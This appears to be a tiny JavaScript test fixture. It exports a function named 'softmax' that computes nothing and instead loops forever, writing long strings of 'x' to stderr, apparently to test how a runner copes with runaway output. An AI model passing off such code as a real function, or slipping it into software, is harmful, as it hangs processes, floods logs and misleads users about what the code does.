const fs = process.getBuiltinModule("node:fs");

export function softmax() {
  for (;;) fs.writeSync(2, "x".repeat(10000));
}
